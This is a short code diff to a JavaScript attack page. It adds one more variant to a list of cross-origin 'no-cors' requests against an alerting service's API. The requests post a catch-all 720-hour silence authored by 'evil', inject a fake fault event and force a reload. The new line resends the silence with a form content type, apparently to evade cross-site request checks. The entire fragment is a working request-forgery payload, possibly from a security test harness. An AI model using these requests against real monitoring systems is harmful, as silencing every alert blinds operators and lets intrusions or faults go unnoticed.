@@ -31,6 +31,7 @@ window.attack = async () => {
   const silence = JSON.stringify({matchers: {policy: "*"}, duration: "720h", author: "evil"});
   const tries = [
     () => fetch(R + "/api/v1/silences", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: silence}),
+    () => fetch(R + "/api/v1/silences", {method: "POST", mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: silence}),
     () => fetch(R + "/api/v1/events", {method: "POST", mode: "no-cors", body: JSON.stringify({code: "CUSTOM_FAULT", labels: {part: "evil"}})}),
     () => fetch(R + "/api/v1/reload", {method: "POST", mode: "no-cors"}),
     () => fetch(R + "/api/v1/silences", {method: "POST", headers: {"Content-Type": "application/json"}, body: silence}),
